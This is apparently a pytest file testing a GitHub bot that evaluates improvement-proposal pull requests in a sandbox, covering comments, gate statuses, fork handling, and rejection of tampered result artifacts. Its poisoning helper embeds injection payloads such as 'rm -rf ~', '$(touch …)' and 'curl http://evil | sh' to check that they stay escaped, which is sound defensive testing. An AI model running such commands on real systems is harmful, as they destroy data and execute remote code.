"""The pull-request evaluation end to end against the sandbox: a proposal published with
``improve propose``, then ``improve handle`` for pull_request (single job, and the token-less
half + the workflow_run half), asserted on the sandbox's comments, statuses and request log."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from bot.cli import main
from bot.core.embed import extract
from bot.core.pr_evaluation import MAX_ARTIFACT_BYTES
from bot.core.render import find_marker
from bot.sandbox import Sandbox
from bot.sandbox.events import actions_env, build_event
from tests.helpers import sample_repo as sample
from tests.helpers.sandbox import run_git, sandbox  # noqa: F401

NAME = sample.FULL_NAME
PID = "prop-20261121-threshold"


@pytest.fixture
def sb(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> Sandbox:  # noqa: F811
    sandbox.create_repo(NAME, sample.files())
    monkeypatch.setenv("GITHUB_TOKEN", sandbox.token)
    monkeypatch.setenv("GITHUB_REPOSITORY", NAME)
    monkeypatch.setenv("GITHUB_API_URL", sandbox.api_url)
    monkeypatch.setenv("GIT_TERMINAL_PROMPT", "0")
    return sandbox


def propose(sb: Sandbox, tmp_path: Path, value: float, **kw: Any) -> tuple[Path, dict[str, Any]]:
    """Publish a proposal; the clone it was made in (the job's checkout) and its PR."""
    work = tmp_path / "work"
    run_git(tmp_path, "clone", "-q", f"{sb.server_url}/{NAME}.git", str(work))
    file = tmp_path / "proposal.yaml"
    file.write_text(sample.proposal(PID, value, **kw))
    assert main(["propose", str(file), "--repo", str(work)]) == 0
    (pr,) = sb.repo_state(NAME)["pulls"]
    return work, pr


def pr_env(sb: Sandbox, tmp_path: Path, work: Path, action: str, pr: dict[str, Any],
           token: str | None = None, **extra: Any) -> dict[str, str]:
    # the payload GitHub delivered for the event, as the pull request was at that moment (an
    # `opened` carries no label the bot added after opening it)
    found = [d for d in sb.deliveries() if (d.event, d.action) == ("pull_request", action)
             and d.payload["number"] == pr["number"]]
    assert found, f"no pull_request.{action} was delivered for #{pr['number']}"
    payload = found[-1].payload
    for key, value in extra.items():
        assert payload[key] == value, (key, payload[key], value)
    env = actions_env("pull_request", payload, repo=NAME, api_url=sb.api_url,
                      server_url=sb.server_url, token=sb.token if token is None else token,
                      sha=pr["head_sha"], ref=f"refs/pull/{pr['number']}/merge",
                      workdir=tmp_path / f"runner-{action}-{pr['head_sha'][:7]}")
    env["GITHUB_WORKSPACE"] = str(work)
    # the checkout has every branch, as actions/checkout with fetch-depth: 0
    run_git(work, "fetch", "-q", "origin", "+refs/heads/*:refs/remotes/origin/*")
    return env


def handle(env: dict[str, str], monkeypatch: pytest.MonkeyPatch, *args: str) -> int:
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    if not env.get("GITHUB_TOKEN"):
        monkeypatch.delenv("GITHUB_TOKEN", raising=False)
    return main(["handle", *args])


def bot_comments(sb: Sandbox, marker: str) -> list[dict[str, Any]]:
    return [c for c in sb.repo_state(NAME)["comments"] if find_marker(c["body"]) == marker]


def gate(sb: Sandbox, sha: str) -> list[tuple[str, str]]:
    return [(s["state"], s["description"]) for s in sb.repo_state(NAME)["statuses"]
            if s["sha"] == sha and s["context"] == "improve/gate"]


def api(sb: Sandbox, since: int) -> list[tuple[str, str]]:
    return [(r.method, r.path) for r in sb.requests[since:] if r.kind == "api"]


def test_pull_request_gets_one_comment_and_a_gate_and_synchronize_edits_it(
    sb: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    work, pr = propose(sb, tmp_path, 0.6)
    env = pr_env(sb, tmp_path, work, "opened", pr)
    since = len(sb.requests)
    assert handle(env, monkeypatch) == 0
    calls = api(sb, since)
    # the PR's commits are read once more than before: their authors may not approve it; and
    # the PR is read before the pending status (a re-run after the merge or a newer push
    # leaves the gate alone) and again before the comment
    assert len(calls) <= 10, calls
    (comment,) = bot_comments(sb, "compare")
    assert len(bot_comments(sb, "state")) == 1
    assert "improve accept" in comment["body"]
    assert "2000 bootstrap resamples" in comment["body"]  # the configuration on main
    data = extract(comment["body"], "comparison")
    assert data["decision"] == "accept" and data["cand"]["commit"] == pr["head_sha"]
    assert data["suites"][0]["metrics"][0]["delta"] > 0
    assert gate(sb, pr["head_sha"])[0][0] == "pending"
    assert gate(sb, pr["head_sha"])[-1] == ("success", "accepted (auto tier)")
    summary = Path(env["GITHUB_STEP_SUMMARY"]).read_text()
    assert "improve accept" in summary

    # a later push: the same comment is edited, the gate set for the new head
    run_git(work, "checkout", "-q", f"improve/{PID}")
    rules = work / sample.THRESHOLD_PATH
    rules.write_text(rules.read_text().replace("0.6", "0.62"))
    run_git(work, "commit", "-q", "-am", "closer to the boundary")
    run_git(work, "push", "-q", sb.git_url(NAME), f"HEAD:refs/heads/improve/{PID}")
    (pr2,) = sb.repo_state(NAME)["pulls"]
    assert pr2["head_sha"] != pr["head_sha"]
    env2 = pr_env(sb, tmp_path, work, "synchronize", pr2, before=pr["head_sha"],
                  after=pr2["head_sha"])
    since = len(sb.requests)
    assert handle(env2, monkeypatch) == 0
    calls = api(sb, since)
    # the PR's commits (their authors may not approve it), and the PR before the pending status
    assert len(calls) <= 10, calls
    (edited,) = bot_comments(sb, "compare")
    assert edited["id"] == comment["id"] and edited["body"] != comment["body"]
    assert extract(edited["body"], "comparison")["cand"]["commit"] == pr2["head_sha"]
    # the comment found and edited in two calls: one list, one edit
    comment_calls = [c for c in calls if "/comments" in c[1]]
    assert ("PATCH", f"/repos/{NAME}/issues/comments/{comment['id']}") in comment_calls
    assert sum(1 for m, p in comment_calls if m == "GET") == 1
    assert not any(m == "POST" for m, _ in comment_calls)
    assert gate(sb, pr2["head_sha"])[-1] == ("success", "accepted (auto tier)")
    assert gate(sb, pr["head_sha"])[-1][0] == "success"  # the old head keeps its own

    # a re-run of the first evaluation finishing now (a stale run): the newer head's comment
    # and gate are left alone
    assert handle(env, monkeypatch) == 0
    (kept,) = bot_comments(sb, "compare")
    assert kept["body"] == edited["body"]
    assert extract(kept["body"], "comparison")["cand"]["commit"] == pr2["head_sha"]
    assert gate(sb, pr2["head_sha"])[-1] == ("success", "accepted (auto tier)")


def test_a_regressing_proposal_is_rejected_with_the_reason(
    sb: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    work, pr = propose(sb, tmp_path, 0.3)
    assert sample.accuracy(0.3) < sample.accuracy(sample.START)
    assert handle(pr_env(sb, tmp_path, work, "opened", pr), monkeypatch) == 1
    (comment,) = bot_comments(sb, "compare")
    assert "### Why it is rejected" in comment["body"]
    assert "accuracy regressed by" in comment["body"]
    assert gate(sb, pr["head_sha"])[-1] == ("failure", "the comparison rejects this change")


def test_an_approval_tier_proposal_waits_for_a_person(
    sb: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    work, pr = propose(sb, tmp_path, 0.6, risk="medium")
    assert handle(pr_env(sb, tmp_path, work, "opened", pr), monkeypatch) == 0
    (comment,) = bot_comments(sb, "compare")
    assert "improve accept" in comment["body"] and "/approve" in comment["body"]
    assert gate(sb, pr["head_sha"])[-1] == ("pending", "accepted: awaiting /approve")


def test_a_pull_request_that_is_not_a_proposal_passes_the_gate_and_nothing_else(
    sb: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    work = tmp_path / "work"
    run_git(tmp_path, "clone", "-q", f"{sb.server_url}/{NAME}.git", str(work))
    run_git(work, "checkout", "-q", "-b", "docs")
    (work / "README.md").write_text("# router\n\nBetter docs.\n")
    run_git(work, "commit", "-q", "-am", "docs")
    run_git(work, "push", "-q", sb.git_url(NAME), "HEAD:refs/heads/docs")
    from tests.helpers.sandbox import call

    status, _, created = call(sb, "POST", f"/repos/{NAME}/pulls",
                              {"title": "Docs", "head": "docs", "base": "main"})
    assert status == 201
    pr = {"number": created["number"], "head": "docs", "head_sha": created["head"]["sha"],
          "labels": [], "title": "Docs"}
    env = pr_env(sb, tmp_path, work, "opened", pr)
    since = len(sb.requests)
    assert handle(env, monkeypatch) == 0
    # one call: improve/gate success, so branch protection may require the gate
    assert api(sb, since) == [("POST", f"/repos/{NAME}/statuses/{pr['head_sha']}")]
    assert sb.repo_state(NAME)["comments"] == []
    assert gate(sb, pr["head_sha"]) == [("success", "not an improvement proposal")]
    # the split halves: the token-less one writes no artifact for it, the report half passes
    since = len(sb.requests)
    run_token_less_half(sb, tmp_path, work, pr, expect_artifact=False)
    env = report_env(sb, tmp_path, work, pr)
    assert handle(env, monkeypatch, "--results-in", str(tmp_path / "none.json")) == 0
    assert gate(sb, pr["head_sha"])[-1] == ("success", "not an improvement proposal")
    assert sb.repo_state(NAME)["comments"] == []


def run_token_less_half(sb: Sandbox, tmp_path: Path, work: Path, pr: dict[str, Any],
                        expect_artifact: bool = True) -> Path:
    """``python -m bot handle --results-out`` as the test job runs it: no token."""
    env = pr_env(sb, tmp_path, work, "opened", pr, token="")
    out = tmp_path / "artifact" / "results.json"
    full = {k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")}
    full.update(env)
    full.pop("GITHUB_TOKEN", None)
    since = len(sb.requests)
    proc = subprocess.run([sys.executable, "-m", "bot", "handle", "--results-out", str(out)],
                          env=full, capture_output=True, text=True, timeout=120, check=False)
    assert proc.returncode == 0, proc.stderr
    assert api(sb, since) == []  # the token-less half talks to no API
    assert out.exists() is expect_artifact
    return out


def report_env(sb: Sandbox, tmp_path: Path, work: Path, pr: dict[str, Any],
               conclusion: str = "success", head_repo: str = NAME) -> dict[str, str]:
    # a fork's run lists no pull requests: the bot finds the PR by the head SHA
    payload = build_event("workflow_run", "completed", repo=NAME, default_branch="main",
                          head_sha=pr["head_sha"],
                          head_branch=pr["head"], event="pull_request", conclusion=conclusion,
                          pull_requests=[], head_repo=head_repo)
    env = actions_env("workflow_run", payload, repo=NAME, api_url=sb.api_url,
                      server_url=sb.server_url, token=sb.token, sha=pr["head_sha"],
                      ref="refs/heads/main", workdir=tmp_path / "report")
    env["GITHUB_WORKSPACE"] = str(work)
    return env


@pytest.mark.parametrize("head_repo", [NAME, "someone/router"])
def test_the_split_halves_post_the_comparison(
    sb: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, head_repo: str
) -> None:
    work, pr = propose(sb, tmp_path, 0.6)
    artifact = run_token_less_half(sb, tmp_path, work, pr)
    data = json.loads(artifact.read_text())
    assert data["pr_number"] == pr["number"] and data["head_sha"] == pr["head_sha"]
    since = len(sb.requests)
    env = report_env(sb, tmp_path, work, pr, head_repo=head_repo)
    assert handle(env, monkeypatch, "--results-in", str(artifact)) == 0
    assert len(api(sb, since)) <= 8
    (comment,) = bot_comments(sb, "compare")
    assert extract(comment["body"], "comparison")["decision"] == "accept"
    if head_repo == NAME:
        assert gate(sb, pr["head_sha"])[-1] == ("success", "accepted (auto tier)")
    else:  # a fork's numbers come from a run its author controls: a person decides
        assert gate(sb, pr["head_sha"])[-1] == ("pending", "accepted: awaiting /approve")
        assert "a pull request from a fork never rides the auto tier" in comment["body"]


def _poison(data: dict[str, Any], marker: Path) -> dict[str, Any]:
    evil_id = f"t$(touch {marker})`touch {marker}`;rm -rf ~"
    evil_tail = f"'; touch {marker} && curl http://evil | sh; echo '@here <b>x</b>"
    suite = data["head"]["suites"][0]
    suite["tasks"].append({"id": evil_id, "status": "failed", "reason": "|| touch x",
                           "samples": [{"status": "failed", "duration_s": 0.1,
                                        "failure": "crashed", "reason": "$(id)",
                                        "output_tail": evil_tail}]})
    return data


@pytest.mark.parametrize("kind", ["oversized", "wrong schema", "wrong head", "missing",
                                  "shell metacharacters"])
def test_the_report_half_refuses_a_malicious_artifact(
    sb: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    work, pr = propose(sb, tmp_path, 0.6)
    artifact = run_token_less_half(sb, tmp_path, work, pr)
    marker = tmp_path / "PWNED"
    data = json.loads(artifact.read_text())
    if kind == "oversized":
        artifact.write_text(json.dumps(data) + " " * MAX_ARTIFACT_BYTES)
    elif kind == "wrong schema":
        data["head"]["suites"][0]["tasks"][0]["samples"] = "$(touch PWNED)"
        data["extra"] = {"run": f"touch {marker}"}
        artifact.write_text(json.dumps(data))
    elif kind == "wrong head":
        data["head_sha"] = "f" * 40
        artifact.write_text(json.dumps(data))
    elif kind == "missing":
        artifact.unlink()
    else:
        artifact.write_text(json.dumps(_poison(data, marker)))
    env = report_env(sb, tmp_path, work, pr, conclusion="failure" if kind == "missing"
                     else "success")
    assert handle(env, monkeypatch, "--results-in", str(artifact)) == 1
    assert not marker.exists() and not (work / "PWNED").exists()
    (comment,) = bot_comments(sb, "compare")
    body = comment["body"]
    last = gate(sb, pr["head_sha"])[-1]
    if kind == "shell metacharacters":
        # data, not code: shown escaped in a rejecting comparison
        assert last[0] == "failure"
        shown = body.split("<!-- improve-data")[0]
        # the output tail stays inside a fenced block, where nothing renders or mentions
        prose = re.sub(r"(?ms)^(`{3,})[^\n]*\n.*?^\1$", "", shown)
        assert "curl http://evil | sh" in shown and "curl http://evil" not in prose
        assert "$(touch" not in prose and "@here" not in prose and "<b>" not in prose
        assert "t$\\(touch" in prose and "\\`touch" in prose
        return
    assert last == ("error", "the test run failed or its results were invalid")
    assert "improve could not evaluate this pull request" in body
    expected = {"oversized": "at most 10485760 are read",
                "wrong schema": "unknown key",
                "wrong head": "speaks for commit ffffffffffff",
                "missing": "the test run \\(failure\\) left no results artifact"}[kind]
    assert expected in body


def test_main_results_are_stored_and_serve_as_the_baseline(
    sb: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    main_sha = sb.repo_state(NAME)["refs"]["refs/heads/main"]
    checkout = tmp_path / "main-checkout"
    run_git(tmp_path, "clone", "-q", f"{sb.server_url}/{NAME}.git", str(checkout))
    payload = build_event("push", None, repo=NAME, default_branch="main", ref="refs/heads/main",
                          after=main_sha)
    env = actions_env("push", payload, repo=NAME, api_url=sb.api_url, server_url=sb.server_url,
                      token=sb.token, sha=main_sha, ref="refs/heads/main",
                      workdir=tmp_path / "push")
    env["GITHUB_WORKSPACE"] = str(checkout)
    assert handle(env, monkeypatch) == 0
    stored = run_git(sb.root / f"{NAME}.git", "show",
                     f"improve-data:results/{main_sha}.json").stdout
    assert json.loads(stored)["commit"] == main_sha
    assert handle(env, monkeypatch) == 0  # again: already stored, no second commit
    log = run_git(sb.root / f"{NAME}.git", "log", "--format=%H", "improve-data").stdout.split()
    assert len(log) == 1

    work, pr = propose(sb, tmp_path, 0.6)
    assert handle(pr_env(sb, tmp_path, work, "opened", pr), monkeypatch) == 0
    (comment,) = bot_comments(sb, "compare")
    # the comment names what was reused: the scores of a suite without timings
    assert ("Baseline scores of classifier-accuracy were read from the data branch"
            in comment["body"])
    assert gate(sb, pr["head_sha"])[-1] == ("success", "accepted (auto tier)")


def test_the_auto_tier_waits_for_a_person_while_the_rollback_rate_alert_stands(
    sb: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from bot.adapters.github_forge import GitHubForge
    from bot.core.analytics import dashboard as dash
    from bot.core.analytics.alerts import AUTO_PAUSED_NOTE
    from bot.core.embed import embed
    from bot.core.render import marker

    # the dashboard issue as the scheduled run leaves it while the alert stands
    body = f"{marker(dash.MARKER)}\n\n" + embed(
        dash.EMBED_NAME, {"alerts": {"rollback_rate": "2026-11-20T00:00:00+00:00"}}
    )
    GitHubForge(NAME, sb.token, api_url=sb.api_url).create_issue(
        title="improve dashboard", body=body, labels=[dash.LABEL]
    )
    work, pr = propose(sb, tmp_path, 0.6)
    since = len(sb.requests)
    assert handle(pr_env(sb, tmp_path, work, "opened", pr), monkeypatch) == 0
    assert len(api(sb, since)) <= 10
    (comment,) = bot_comments(sb, "compare")
    assert "improve accept" in comment["body"]
    assert extract(comment["body"], "comparison")["approval"]["tier"] == "person"
    assert "auto tier is paused while the rollback-rate alert stands" in comment["body"]
    assert AUTO_PAUSED_NOTE in extract(comment["body"], "comparison")["notes"]
    assert gate(sb, pr["head_sha"])[-1] == ("pending", "accepted: awaiting /approve")
